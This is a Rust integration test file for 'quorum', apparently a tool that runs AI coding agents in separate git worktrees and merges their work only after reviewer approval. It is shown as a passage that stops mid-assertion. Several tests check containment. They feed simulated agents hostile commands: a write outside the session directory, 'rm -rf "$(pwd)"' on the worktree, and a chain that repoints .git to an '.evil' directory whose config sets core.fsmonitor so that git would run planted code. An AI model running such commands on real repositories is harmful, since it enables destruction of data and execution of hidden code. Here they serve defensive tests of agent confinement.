//! Isolated writers: agents write in git worktrees of their own, on
//! branches named after their tasks, and only what a review quorum passes
//! is merged into the person's tree. A scratch repository in a temporary
//! directory, with its own HOME, state and config directories, git config
//! and identity (and this test process's own environment made hermetic:
//! the engine's git runs in it); the fake agent writes and reads through
//! ACP `fs/*`, and runs commands in an unsandboxed terminal as `term`.
//!
//! quorum's own git never runs what an agent wrote: probes plant commands
//! (a repointed `.git`, a rewritten in-tree hook, textconv, an external
//! diff, fsmonitor) that would leave a mark outside every session directory
//! and outside `/tmp`, and the marks must never appear.

use crate::common;
use common::shell::text;

use common::Bounded;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Instant;

use common::Probe;
use quorum::acp::registry::Registry;
use quorum::confine::fsroot::Root;
use quorum::engine::{Session, SessionConfig};
use quorum::event::{Activity, Event, Op, Stamped};
use quorum::subagent::dispatch::Reply;
use quorum::subagent::input::{Isolation, SubAgentCallInput, TaskInput};
use tokio::sync::mpsc;

struct Scratch {
    dir: tempfile::TempDir,
    config: PathBuf,
}

/// The fake agent under several names: `writer` writes `notes.txt`, `a`
/// and `b` each write their own `same.txt`, reviewers answer `red` and
/// `green`, `fake` runs whatever its prompt says, and so does `term`,
/// whose terminal commands run unsandboxed (as an agent's own would).
fn scratch() -> Scratch {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    for sub in ["home", "state", "config"] {
        std::fs::create_dir_all(dir.path().join(sub)).unwrap();
    }
    let fake = env!("CARGO_BIN_EXE_quorum-fake-agent");
    let mut config = format!(
        "[agents.fake]\ncommand = {fake:?}\n\
         [agents.term]\ncommand = {fake:?}\nterminal_sandbox = \"none\"\n"
    );
    for (name, scenario) in [
        ("writer", "write notes.txt written by the agent"),
        ("a", "write same.txt from a"),
        ("b", "write same.txt from b"),
        ("red", "review red"),
        ("green", "review green"),
    ] {
        config.push_str(&format!(
            "[agents.{name}]\ncommand = {fake:?}\nargs = [\"--scenario\", \"{scenario}\"]\n"
        ));
    }
    let path = dir.path().join("config/quorum.toml");
    std::fs::write(&path, config).unwrap();
    let s = Scratch { dir, config: path };
    s.git(&["init", "-q", "-b", "main"]);
    // In-process merges (the TUI's `/merge`) commit with the repository's
    // own identity.
    s.git(&["config", "user.name", "Person"]);
    s.git(&["config", "user.email", "person@example.com"]);
    std::fs::write(s.repo().join("lib.rs"), "fn old() {}\n").unwrap();
    s.git(&["add", "lib.rs"]);
    s.git(&["commit", "-q", "-m", "first"]);
    s
}

impl Scratch {
    fn repo(&self) -> PathBuf {
        self.dir.path().join("repo")
    }

    fn state(&self) -> PathBuf {
        self.dir.path().join("state")
    }

    fn env(&self, c: &mut Command) {
        for name in common::inherited_git_vars() {
            c.env_remove(name);
        }
        c.envs(common::hermetic_env(&self.dir.path().join("home")))
            .env("XDG_STATE_HOME", self.state())
            .env("XDG_CONFIG_HOME", self.dir.path().join("config"))
            .env("GIT_AUTHOR_NAME", "Person")
            .env("GIT_AUTHOR_EMAIL", "person@example.com")
            .env("GIT_COMMITTER_NAME", "Person")
            .env("GIT_COMMITTER_EMAIL", "person@example.com");
    }

    fn git_in(&self, dir: &Path, args: &[&str]) -> Output {
        let mut c = Command::new("git");
        c.args(args).current_dir(dir);
        self.env(&mut c);
        c.output_bounded()
    }

    /// `git args` in the person's repository: its stdout (it must succeed).
    fn git(&self, args: &[&str]) -> String {
        let out = self.git_in(&self.repo(), args);
        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
        text(&out.stdout).trim_end().to_string()
    }

    fn quorum(&self, args: &[&str]) -> Output {
        self.quorum_in(&self.repo(), args)
    }

    fn quorum_in(&self, dir: &Path, args: &[&str]) -> Output {
        let mut c = Command::new(env!("CARGO_BIN_EXE_quorum"));
        c.arg("--config")
            .arg(&self.config)
            .args(args)
            .current_dir(dir);
        self.env(&mut c);
        c.output_bounded()
    }

    /// `quorum call --worktree --json` on `agent`: its one JSON line.
    fn call(&self, agent: &str, input: &str) -> serde_json::Value {
        let o = self.quorum(&[
            "call",
            "--agent",
            agent,
            "--worktree",
            "--json",
            "--input",
            input,
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
        serde_json::from_str(text(&o.stdout).trim()).unwrap()
    }

    /// `git status --porcelain` of the person's tree.
    fn status(&self) -> String {
        self.git(&["status", "--porcelain"])
    }

    /// A session in the person's repository, as the TUI starts one.
    fn session(&self) -> (Session, mpsc::UnboundedSender<Op>, Events) {
        self.session_with(None, None)
    }

    /// As [`Scratch::session`], recorded to `record`, or continuing
    /// `resume`.
    fn session_with(
        &self,
        record: Option<PathBuf>,
        resume: Option<PathBuf>,
    ) -> (Session, mpsc::UnboundedSender<Op>, Events) {
        // The agents of the config alone: what the machine has on `PATH`
        // changes nothing here.
        let registry = Registry::load_only(&self.config).unwrap();
        let mut config = SessionConfig::new(registry, Root::new(&self.repo()).unwrap());
        config.record = record;
        config.resume = resume;
        let (mut session, events) = Session::start(config, Instant::now()).unwrap();
        session.dispatcher().set_worktrees(Some(self.state()), None);
        let ops = session.serve();
        (session, ops, Events(events))
    }
}

struct Events(mpsc::UnboundedReceiver<Stamped>);

impl Events {
    async fn next(&mut self) -> Event {
        tokio::time::timeout(std::time::Duration::from_secs(30), self.0.recv())
            .await
            .expect("an event")
            .expect("the session runs")
            .event
    }

    /// The next commit of a worktree task's turn: its branch and commit.
    async fn committed(&mut self) -> (String, Option<String>) {
        loop {
            if let Event::WorktreeCommitted { branch, commit, .. } = self.next().await {
                return (branch, commit);
            }
        }
    }

    /// Every event from now until one `done` says is the last (included).
    async fn until(&mut self, done: impl Fn(&Event) -> bool) -> Vec<Stamped> {
        common::events::until(&mut self.0, done).await
    }

    /// The first notice or error after now whose text has `needle`.
    async fn said(&mut self, needle: &str) -> Event {
        loop {
            let e = tokio::time::timeout(std::time::Duration::from_secs(30), self.0.recv())
                .await
                .expect("an answer")
                .expect("the session runs");
            match &e.event {
                Event::Notice { text, .. } | Event::Error { text } if text.contains(needle) => {
                    return e.event;
                }
                _ => {}
            }
        }
    }
}

#[test]
fn a_write_lands_on_the_branch_and_never_in_the_persons_tree() {
    let s = scratch();
    let out = s.call("fake", "write notes.txt hello from the agent");
    assert_eq!(out["output"], "wrote");
    let branch = out["branch"].as_str().unwrap();
    assert_eq!(branch, "quorum/c1-write-notes-txt-hello-from-the");
    assert_eq!(out["diffstat"], "+1 −0 in 1 file");
    let worktree = PathBuf::from(out["worktree"].as_str().unwrap());
    assert!(
        worktree.starts_with(s.state().join("quorum/worktrees")),
        "{worktree:?}"
    );
    assert_eq!(
        std::fs::read_to_string(worktree.join("notes.txt")).unwrap(),
        "hello from the agent"
    );
    // Committed on the branch, with the task's first line and the agent.
    assert_eq!(
        s.git(&["log", "-1", "--format=%s", branch]),
        "write notes.txt hello from the agent (fake)"
    );
    assert_eq!(
        s.git(&["show", &format!("{branch}:notes.txt")]),
        "hello from the agent"
    );
    // The person's tree is as it was.
    assert_eq!(s.status(), "");
    assert!(!s.repo().join("notes.txt").exists());
    assert_eq!(s.git(&["branch", "--show-current"]), "main");

    // A write aimed at the person's tree is refused.
    let target = s.repo().join("escape.txt");
    let out = s.call("fake", &format!("write {} evil", target.display()));
    let said = out["output"].as_str().unwrap();
    assert!(said.starts_with("write failed"), "{said}");
    assert!(said.contains("outside the session directory"), "{said}");
    assert!(!target.exists());
    assert_eq!(out["diffstat"], "+0 −0 in 0 files");
    assert_eq!(s.status(), "");
}

#[test]
fn outside_a_repository_the_call_fails_before_any_agent_starts() {
    let s = scratch();
    let plain = s.dir.path().join("plain");
    std::fs::create_dir_all(&plain).unwrap();
    let o = s.quorum_in(
        &plain,
        &["call", "--agent", "writer", "--worktree", "--input", "go"],
    );
    assert_eq!(o.status.code(), Some(2));
    let err = text(&o.stderr);
    assert!(err.contains("is not inside a git repository"), "{err}");
    assert!(
        err.contains("not a git repository"),
        "git's own words: {err}"
    );
    assert!(!plain.join("notes.txt").exists());
    assert!(!err.contains("writer ·"), "no agent ran: {err}");
}

#[test]
fn a_detached_head_is_an_error_and_a_taken_name_gets_a_number() {
    let s = scratch();
    // The branch the call would make exists already (an earlier session's).
    s.git(&["branch", "quorum/c1-go"]);
    let out = s.call("writer", "go");
    assert_eq!(out["branch"], "quorum/c1-go-2");
    // A detached HEAD: an error naming it, and nothing made.
    let head = s.git(&["rev-parse", "HEAD"]);
    s.git(&["checkout", "-q", &head]);
    let o = s.quorum(&[
        "call",
        "--agent",
        "writer",
        "--worktree",
        "--input",
        "other",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        text(&o.stderr).contains("HEAD is detached"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(s.git(&["branch", "--list", "quorum/*"]).lines().count(), 2);
    assert_eq!(
        s.git(&["worktree", "list", "--porcelain"])
            .matches("worktree ")
            .count(),
        2,
        "the person's and the first call's"
    );
}

#[test]
fn uncommitted_changes_are_visible_in_the_worktree() {
    let s = scratch();
    std::fs::write(s.repo().join("lib.rs"), "fn old() {}\nfn unsaved() {}\n").unwrap();
    let out = s.call("fake", "read lib.rs");
    let said = out["output"].as_str().unwrap();
    assert!(said.contains("fn unsaved() {}"), "{said}");
    // The person's change is still theirs, uncommitted.
    assert_eq!(s.status(), " M lib.rs");
    // The branch starts from a commit of it on HEAD; the agent changed
    // nothing, so its diffstat is empty.
    let branch = out["branch"].as_str().unwrap();
    assert_eq!(
        s.git(&["log", "-1", "--format=%s", branch]),
        format!("quorum: uncommitted changes {branch} started from")
    );
    assert_eq!(out["diffstat"], "+0 −0 in 0 files");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_batch_of_two_isolated_tasks_writing_the_same_file() {
    let s = scratch();
    let (session, _ops, _events) = s.session();
    let input = SubAgentCallInput {
        tasks: Some(
            ["a", "b"]
                .iter()
                .map(|agent| TaskInput {
                    agent: Some(agent.to_string()),
                    input: "Write same.txt".into(),
                    ..TaskInput::default()
                })
                .collect(),
        ),
        isolation: Some(Isolation::Worktree),
        ..SubAgentCallInput::default()
    };
    let Ok(Reply::Batch(batch)) = session.call(input).await else {
        panic!("a batch");
    };
    let works: Vec<_> = batch
        .tasks
        .iter()
        .map(|t| {
            let o = t.result.as_ref().unwrap();
            assert_eq!(o.output, "wrote");
            o.work.clone().unwrap()
        })
        .collect();
    assert_eq!(works[0].branch, "quorum/c1-write-same-txt");
    assert_eq!(works[1].branch, "quorum/c2-write-same-txt");
    assert_eq!(
        s.git(&["show", "quorum/c1-write-same-txt:same.txt"]),
        "from a"
    );
    assert_eq!(
        s.git(&["show", "quorum/c2-write-same-txt:same.txt"]),
        "from b"
    );
    assert_eq!(s.status(), "");
    session.shutdown();
}

#[test]
fn review_branch_exits_2_when_a_reviewer_says_red() {
    let s = scratch();
    let branch = s.call("writer", "Write the notes")["branch"]
        .as_str()
        .unwrap()
        .to_string();
    let o = s.quorum(&["review", "--branch", &branch, "--agents", "red,green"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).contains("quorum: red"),
        "{}",
        text(&o.stdout)
    );
    // The verdict is recorded against the branch.
    assert_eq!(
        s.git(&["config", &format!("branch.{branch}.quorumverdict")]),
        "red"
    );
    let o = s.quorum(&["review", "--branch", &branch, "--agents", "green"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(
        s.git(&["config", &format!("branch.{branch}.quorumverdict")]),
        "green"
    );
    let o = s.quorum(&["review", "--branch", "quorum/none", "--agents", "green"]);
    assert_eq!(o.status.code(), Some(3));
    assert!(text(&o.stderr).contains("no branch quorum/none"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn merge_is_refused_after_a_red_quorum_and_done_after_a_green_one() {
    let s = scratch();
    let out = s.call("writer", "Write the notes");
    let branch = out["branch"].as_str().unwrap().to_string();
    let worktree = PathBuf::from(out["worktree"].as_str().unwrap());
    assert_eq!(
        s.quorum(&["review", "--branch", &branch, "--agents", "red"])
            .status
            .code(),
        Some(2)
    );
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!("/merge {branch}"))).unwrap();
    events.said("latest review quorum is red").await;
    assert!(!s.repo().join("notes.txt").exists());
    assert_eq!(
        s.quorum(&["review", "--branch", &branch, "--agents", "green"])
            .status
            .code(),
        Some(0)
    );
    ops.send(Op::Submit(format!("/merge {branch}"))).unwrap();
    events.said("merged into main").await;
    assert_eq!(
        std::fs::read_to_string(s.repo().join("notes.txt")).unwrap(),
        "written by the agent"
    );
    assert_eq!(s.status(), "");
    assert!(!worktree.exists(), "a merged task's worktree is removed");
    session.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn merge_on_a_conflict_leaves_the_tree_as_it_was_and_merge_bang_overrides_red() {
    let s = scratch();
    let first = s.call("a", "Write same.txt")["branch"]
        .as_str()
        .unwrap()
        .to_string();
    let second = s.call("b", "Write same.txt")["branch"]
        .as_str()
        .unwrap()
        .to_string();
    let o = s.quorum(&["review", "--branch", &first, "--agents", "red"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert_eq!(
        s.git(&["config", &format!("branch.{first}.quorumverdict")]),
        "red"
    );
    let before = s.git(&["rev-parse", "HEAD"]);
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!("/merge {first}"))).unwrap();
    let said = events.said("latest review quorum is red").await;
    assert!(matches!(said, Event::Error { .. }), "{said:?}");
    assert_eq!(s.git(&["rev-parse", "HEAD"]), before, "not merged");
    ops.send(Op::Submit(format!("/merge! {first}"))).unwrap();
    events.said("merged into main").await;
    let head = s.git(&["rev-parse", "HEAD"]);
    ops.send(Op::Submit(format!("/merge {second}"))).unwrap();
    let said = events.said("conflicts with your branch main").await;
    let Event::Error { text } = said else {
        panic!("an error: {said:?}")
    };
    assert!(text.contains("the merge was aborted"), "{text}");
    assert!(text.contains("CONFLICT"), "git's own message: {text}");
    assert_eq!(s.git(&["rev-parse", "HEAD"]), head);
    assert_eq!(s.status(), "");
    assert_eq!(
        std::fs::read_to_string(s.repo().join("same.txt")).unwrap(),
        "from a"
    );
    session.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn discard_asks_once_then_removes_worktree_and_branch() {
    let s = scratch();
    let out = s.call("writer", "Write the notes");
    let branch = out["branch"].as_str().unwrap().to_string();
    let worktree = PathBuf::from(out["worktree"].as_str().unwrap());
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!("/discard {branch}"))).unwrap();
    events.said("1 commit that was never merged").await;
    assert!(worktree.exists());
    ops.send(Op::Submit(format!("/discard {branch}"))).unwrap();
    events.said("worktree and branch removed").await;
    assert!(!worktree.exists());
    assert_eq!(s.git(&["branch", "--list", &branch]), "");
    assert_eq!(
        s.git(&["worktree", "list", "--porcelain"])
            .matches("worktree ")
            .count(),
        1
    );
    session.shutdown();
}

#[test]
fn worktrees_lists_and_prunes_the_merged() {
    let s = scratch();
    let kept = s.call("writer", "Write the notes")["branch"]
        .as_str()
        .unwrap()
        .to_string();
    let o = s.quorum(&["worktrees"]);
    assert_eq!(o.status.code(), Some(0));
    let listing = text(&o.stdout);
    assert!(listing.contains(&kept), "{listing}");
    // Task, branch, agent, state, ahead, behind, the worktree.
    let columns = |listing: &str| -> Vec<String> {
        let line = listing
            .lines()
            .find(|l| l.contains(&kept))
            .unwrap_or_else(|| panic!("no line for {kept}: {listing}"));
        line.split_whitespace().map(str::to_string).collect()
    };
    let row = columns(&listing);
    assert_eq!(
        row[..6],
        ["c1", &kept, "writer", "worktree", "+1", "-0"],
        "{listing}"
    );
    // Merged by hand: pruned (its session is gone).
    s.git(&["merge", "-q", "--no-edit", &kept]);
    let o = s.quorum(&["worktrees", "--prune"]);
    let listing = text(&o.stdout);
    assert_eq!(columns(&listing)[3], "merged", "{listing}");
    assert!(listing.contains(&format!("pruned {kept}")), "{listing}");
    assert_eq!(s.git(&["branch", "--list", "quorum/*"]), "");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_follow_up_commits_in_the_same_worktree_and_a_continued_session_finds_it() {
    let s = scratch();
    let record = s.dir.path().join("session.jsonl");
    let (session, ops, mut events) = s.session_with(Some(record.clone()), None);
    // The TUI's spelling: `@NAME+` in a worktree, `!` in the background.
    ops.send(Op::Submit("@fake!+ write notes.txt first".into()))
        .unwrap();
    let (branch, first) = events.committed().await;
    assert_eq!(branch, "quorum/t1-write-notes-txt-first");
    assert!(first.is_some());
    // `subagent_status` names the task's branch, worktree and diffstat.
    let status = session.dispatcher().status(Some("t1")).unwrap().to_json();
    assert_eq!(status["branch"], branch.as_str(), "{status}");
    assert_eq!(status["diffstat"], "+1 −0 in 1 file", "{status}");
    assert!(
        status["worktree"]
            .as_str()
            .unwrap()
            .ends_with("quorum-t1-write-notes-txt-first")
    );
    ops.send(Op::Submit("/msg t1 write more.txt second".into()))
        .unwrap();
    let (again, second) = events.committed().await;
    assert_eq!(again, branch, "the same branch");
    assert_ne!(second, first, "a new commit");
    assert_eq!(
        s.git(&["rev-list", "--count", &format!("main..{branch}")]),
        "2"
    );
    assert_eq!(s.git(&["show", &format!("{branch}:more.txt")]), "second");
    session.shutdown();
    drop((session, ops, events));

    // quorum died (or quit): the worktree and branch are still there, and
    // the continued session knows them.
    let (session, ops, mut events) = s.session_with(None, Some(record));
    events.said("t1: its worktree is still there").await;
    ops.send(Op::Submit("/msg t1 write third.txt 3".into()))
        .unwrap();
    let (branch3, _) = events.committed().await;
    assert_eq!(branch3, branch);
    assert_eq!(s.git(&["show", &format!("{branch}:third.txt")]), "3");
    assert_eq!(s.status(), "");
    session.shutdown();
}

/// A foreground worktree call (`@NAME+`, a best-of-N writer) takes a
/// follow-up by its call's name, `/msg c1`, as a task takes one: the same
/// agent, in the same worktree, committed to the same branch; and so does
/// the continued session.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_foreground_worktree_call_takes_a_follow_up_by_its_name() {
    let s = scratch();
    let record = s.dir.path().join("session.jsonl");
    let (session, ops, mut events) = s.session_with(Some(record.clone()), None);
    ops.send(Op::Submit("@fake+ write notes.txt first".into()))
        .unwrap();
    let (branch, first) = events.committed().await;
    assert_eq!(branch, "quorum/c1-write-notes-txt-first");
    assert!(first.is_some());
    events
        .until(|e| matches!(e, Event::SubagentFinished { .. }))
        .await;
    ops.send(Op::Submit("/msg c1 write more.txt second".into()))
        .unwrap();
    let (again, second) = events.committed().await;
    assert_eq!(again, branch, "the same branch");
    assert_ne!(second, first, "a new commit");
    assert_eq!(s.git(&["show", &format!("{branch}:more.txt")]), "second");
    // A second one, never followed up before quorum ends.
    ops.send(Op::Submit("@fake+ write b.txt b".into())).unwrap();
    let (other, _) = events.committed().await;
    events
        .until(|e| matches!(e, Event::SubagentFinished { .. }))
        .await;
    session.shutdown();
    drop((session, ops, events));

    let (session, ops, mut events) = s.session_with(None, Some(record));
    // (The two calls' notices come in either order.)
    events.said("/discard c2 or /msg c2 to go on").await;
    ops.send(Op::Submit("/msg c1 write third.txt 3".into()))
        .unwrap();
    let (branch3, _) = events.committed().await;
    assert_eq!(branch3, branch);
    assert_eq!(s.git(&["show", &format!("{branch}:third.txt")]), "3");
    ops.send(Op::Submit("/msg c2 write c.txt c".into()))
        .unwrap();
    let (other2, _) = events.committed().await;
    assert_eq!(other2, other, "c2 goes on in its own worktree");
    assert_eq!(s.git(&["show", &format!("{other}:c.txt")]), "c");
    assert_eq!(s.status(), "");
    session.shutdown();
}

/// A `/msg cN` sent the moment the board shows `cN` finished is taken: a
/// call whose box says it is done is not "still running" for a follow-up
/// (its end and its leaving the running calls are one step), and the
/// follow-up's turn runs. The follow-up comes from a thread watching the
/// board, as close to the finish as a person typing fast, or a script,
/// can get.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_follow_up_sent_as_its_box_finishes_is_taken() {
    let s = scratch();
    let (session, ops, mut events) = s.session();
    let dispatcher = session.dispatcher().clone();
    for round in 1..=20 {
        ops.send(Op::Submit(format!("@fake+ write f{round}.txt a")))
            .unwrap();
        let started = events
            .until(|e| matches!(e, Event::SubagentStarted { .. }))
            .await;
        let Some(Event::SubagentStarted { call_id, .. }) = started.last().map(|s| &s.event) else {
            unreachable!()
        };
        let (call_id, name) = (call_id.clone(), call_id.replace("call-", "c"));
        let (watcher, runtime) = (dispatcher.clone(), tokio::runtime::Handle::current());
        let sent = std::thread::spawn(move || {
            let _runtime = runtime.enter();
            let finished = || {
                watcher
                    .emitter()
                    .board(|b| b.call(&call_id).is_some_and(|e| e.finished.is_some()))
            };
            let deadline = Instant::now() + std::time::Duration::from_secs(30);
            while !finished() {
                assert!(Instant::now() < deadline, "{call_id} never finished");
                std::thread::yield_now();
            }
            watcher.follow_up(&name, &format!("write g{round}.txt b"))
        });
        let sent = tokio::task::spawn_blocking(move || sent.join().unwrap())
            .await
            .unwrap();
        assert!(sent.is_ok(), "round {round}: {sent:?}");
        // Its turn and the follow-up's: two commits, two ends.
        for _ in 0..2 {
            events
                .until(|e| matches!(e, Event::SubagentFinished { .. }))
                .await;
        }
    }
    session.shutdown();
}

/// The screen: `@NAME+` in the composer, the box names the branch and its
/// diffstat, the opened box shows the diff; `/help` lists the spelling
/// and the merge commands.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_box_shows_the_branch_and_diffstat_and_the_opened_box_the_diff() {
    use common::app::{alt, drive, key, line, text, until};
    use ratatui::Terminal;
    use ratatui::backend::TestBackend;
    use ratatui::crossterm::event::KeyCode;

    let s = scratch();
    let (_session, ops, events) = s.session();
    let mut app = quorum::tui::app::App::live(ops, Instant::now());
    let mut ev_rx = events.0;
    let mut terminal = Terminal::new(TestBackend::new(100, 30)).unwrap();
    drive(
        &mut terminal,
        &mut app,
        line("@fake+ write notes.txt hello"),
        vec![],
    )
    .await;
    until(&mut terminal, &mut app, &mut ev_rx, |s| {
        s.contains("+1 −0 in 1 file")
    })
    .await;
    let screen = text(&terminal);
    assert!(
        screen.contains("⎇ quorum/c1-write-notes-txt-hello · +1 −0 in 1 file"),
        "{screen}"
    );
    assert!(s.status().is_empty());
    // Opened: the diff of the branch.
    drive(
        &mut terminal,
        &mut app,
        vec![alt(KeyCode::Up), key(KeyCode::Enter)],
        vec![],
    )
    .await;
    let screen = text(&terminal);
    assert!(
        screen.contains("── diff of quorum/c1-write-notes-txt-hello ──"),
        "{screen}"
    );
    assert!(screen.contains("+hello"), "{screen}");
    assert!(
        screen.contains("branch: quorum/c1-write-notes-txt-hello (from HEAD)"),
        "{screen}"
    );
    drive(&mut terminal, &mut app, vec![key(KeyCode::Esc)], vec![]).await;
    drive(&mut terminal, &mut app, line("/help"), vec![]).await;
    until(&mut terminal, &mut app, &mut ev_rx, |s| {
        s.contains("/merge TASK")
    })
    .await;
    let screen = text(&terminal);
    assert!(screen.contains("@NAME+"), "{screen}");
    assert!(screen.contains("/discard TASK"), "{screen}");
}

/// The internal agent in a worktree: its file tools and its shell work
/// there, and what they made is committed to the branch.
#[test]
fn the_internal_agents_tools_and_shell_work_in_the_worktree() {
    let s = scratch();
    let script = s.dir.path().join("script.json");
    // Aimed at the person's tree: refused.
    let escape = s.repo().join("escape.txt").display().to_string();
    std::fs::write(
        &script,
        serde_json::json!([
            {"tool_calls": [{"name": "subagent", "arguments": {"input": "Write made.txt", "isolation": "worktree"}}]},
            {"tool_calls": [
                {"name": "write", "arguments": {"path": "made.txt", "content": "by the internal agent"}},
                {"name": "shell", "arguments": {"command": "pwd > where.txt"}},
                {"name": "write", "arguments": {"path": escape, "content": "evil"}}
            ]},
            {"text": "done"},
            {"text": "It is on its branch."}
        ])
        .to_string(),
    )
    .unwrap();
    let model = format!("script:{}", script.display());
    let o = s.quorum(&["run", "--model", &model, "--no-record", "-p", "go"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let branch = "quorum/c1-write-made-txt";
    assert_eq!(
        s.git(&["show", &format!("{branch}:made.txt")]),
        "by the internal agent"
    );
    let worktree = s.git(&["config", &format!("branch.{branch}.quorumworktree")]);
    assert_eq!(s.git(&["show", &format!("{branch}:where.txt")]), worktree);
    assert_eq!(
        s.git(&["log", "-1", "--format=%s", branch]),
        "Write made.txt (internal)"
    );
    assert_eq!(s.status(), "");
    assert!(!s.repo().join("made.txt").exists());
    assert!(!s.repo().join("escape.txt").exists());
}

/// A session in a folder of the repository works in the worktree's copy
/// of that folder.
#[test]
fn a_session_in_a_subfolder_works_in_the_worktrees_subfolder() {
    let s = scratch();
    let sub = s.repo().join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::write(sub.join("keep.txt"), "kept").unwrap();
    s.git(&["add", "sub"]);
    s.git(&["commit", "-q", "-m", "sub"]);
    let o = s.quorum_in(
        &sub,
        &[
            "call",
            "--agent",
            "fake",
            "--worktree",
            "--json",
            "--input",
            "read keep.txt",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let out: serde_json::Value = serde_json::from_str(text(&o.stdout).trim()).unwrap();
    assert_eq!(out["output"], "read: kept");
    let o = s.quorum_in(
        &sub,
        &[
            "call",
            "--agent",
            "fake",
            "--worktree",
            "--json",
            "--input",
            "write new.txt here",
        ],
    );
    let out: serde_json::Value = serde_json::from_str(text(&o.stdout).trim()).unwrap();
    let branch = out["branch"].as_str().unwrap();
    assert_eq!(s.git(&["show", &format!("{branch}:sub/new.txt")]), "here");
    assert!(!sub.join("new.txt").exists());
}

/// An agent that deletes its worktree: the commit is reported as
/// impossible, the branch keeps what it had, the person's tree is as it
/// was. (Sandboxed, the internal agent's shell cannot remove the
/// worktree's `.git`, bound read-only; this one runs unsandboxed.)
#[test]
fn a_deleted_worktree_is_reported_and_the_persons_tree_untouched() {
    let s = scratch();
    let mut config = std::fs::read_to_string(&s.config).unwrap();
    config.push_str("\n[internal]\nterminal_sandbox = \"none\"\n");
    std::fs::write(&s.config, config).unwrap();
    let script = s.dir.path().join("script.json");
    std::fs::write(
        &script,
        serde_json::json!([
            {"tool_calls": [{"name": "subagent", "arguments": {"input": "Clean up", "isolation": "worktree"}}]},
            {"tool_calls": [{"name": "shell", "arguments": {"command": "rm -rf \"$(pwd)\""}}]},
            {"text": "gone"},
            {"text": "ok"}
        ])
        .to_string(),
    )
    .unwrap();
    let model = format!("script:{}", script.display());
    let o = s.quorum(&[
        "run",
        "--json",
        "--model",
        &model,
        "--no-record",
        "-p",
        "go",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let events: Vec<serde_json::Value> = text(&o.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let gone = events.iter().any(|e| {
        e["type"] == "notice"
            && e["text"]
                .as_str()
                .unwrap_or("")
                .contains("is gone (deleted during the turn?)")
    });
    assert!(gone, "{}", text(&o.stdout));
    // The branch is still there, at its start; the person's tree is clean.
    assert_eq!(
        s.git(&["rev-parse", "quorum/c1-clean-up"]),
        s.git(&["rev-parse", "main"])
    );
    assert_eq!(s.status(), "");
    assert!(s.repo().join("lib.rs").exists());
}

/// The box of `call_id` after `events`, as the screen's state has it.
fn the_box(events: &[Stamped]) -> quorum::tui::state::SubagentBox {
    use quorum::tui::state::{CellKind, State};
    let mut state = State::new();
    for e in events {
        state.apply(e);
    }
    state
        .cells
        .iter()
        .find_map(|c| match &c.kind {
            CellKind::Subagent(b) => Some((**b).clone()),
            _ => None,
        })
        .expect("a box")
}

/// The branch and worktree a task's `worktree_ready` named.
fn ready(events: &[Stamped]) -> (String, PathBuf) {
    events
        .iter()
        .find_map(|e| match &e.event {
            Event::WorktreeReady { branch, path, .. } => {
                Some((branch.clone(), PathBuf::from(path)))
            }
            _ => None,
        })
        .expect("a worktree task")
}

/// Issue 24 (2a): the agent's terminal points the worktree's `.git` file at
/// a git directory it made in the worktree, whose config sets
/// `core.fsmonitor`. quorum's commit at the end of the turn must not run
/// it: the commit is refused, in the task's box, naming the worktree and
/// its `.git`; the branch is as it was and the work stays in the worktree.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_repointed_dot_git_is_refused_and_its_fsmonitor_never_runs() {
    let s = scratch();
    let probe = Probe::new();
    let fsmonitor = probe.script("fsmonitor");
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!(
        "@term+ term run mkdir -p .evil/objects .evil/refs && \
         echo 'ref: refs/heads/main' > .evil/HEAD && \
         printf '[core]\\n\\tbare = false\\n\\tfsmonitor = {}\\n' > .evil/config && \
         echo 'gitdir: .evil' > .git && echo kept > work.txt",
        fsmonitor.display()
    )))
    .unwrap();
    let seen = events
        .until(|e| matches!(e, Event::SubagentFinished { .. }))
        .await;
    let (branch, worktree) = ready(&seen);
    assert_eq!(
        std::fs::read_to_string(worktree.join(".git")).unwrap(),
        "gitdir: .evil\n",
        "the agent's terminal did repoint it"
    );
    assert_eq!(probe.ran(), Vec::<String>::new(), "quorum's git ran them");
    let refusal = format!(
        "{}/.git no longer points at the git directory quorum made",
        worktree.display()
    );
    let said = seen.iter().find_map(|e| match &e.event {
        Event::SubagentActivity {
            activity: Activity::Notice { text },
            ..
        } if text.contains(&refusal) => Some(text.clone()),
        _ => None,
    });
    let said = said.unwrap_or_else(|| panic!("no refusal in the box's events: {seen:#?}"));
    assert!(
        said.contains("nothing was committed, the work is left in the worktree for you"),
        "{said}"
    );
    let b = the_box(&seen);
    assert!(
        b.notices.iter().any(|n| n.contains(&refusal)),
        "the box shows it: {:?}",
        b.notices
    );
    // Nothing committed; the work is where the agent left it.
    assert_eq!(
        s.git(&["rev-parse", &branch]),
